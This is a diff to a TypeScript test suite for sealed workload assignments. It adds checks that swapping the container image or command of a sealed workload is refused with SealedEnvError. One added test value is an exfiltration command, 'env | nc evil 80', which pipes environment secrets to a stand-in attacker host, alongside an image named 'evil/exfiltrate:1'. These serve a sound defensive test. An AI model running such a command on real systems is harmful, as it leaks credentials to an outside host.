@@ -80,6 +80,9 @@ describe("a sealed workload in an assignment", () => {
     expect(opened.workload).toEqual(workload);
     // Swapped onto another allocation by whoever relays it: refused, not run with someone else's secrets.
     expect(() => openAssignment({ ...sent, allocationId: randomUUID() }, device)).toThrow(SealedEnvError);
+    // Or kept with its seal while the image or command is swapped: refused too.
+    expect(() => openAssignment({ ...sent, workload: { ...sent.workload!, image: "evil/exfiltrate:1" } }, device)).toThrow(SealedEnvError);
+    expect(() => openAssignment({ ...sent, workload: { ...sent.workload!, command: ["sh", "-c", "env | nc evil 80"] } }, device)).toThrow(SealedEnvError);
   });
 
   it("a plaintext env is refused on the wire; a workload without env carries no seal", () => {
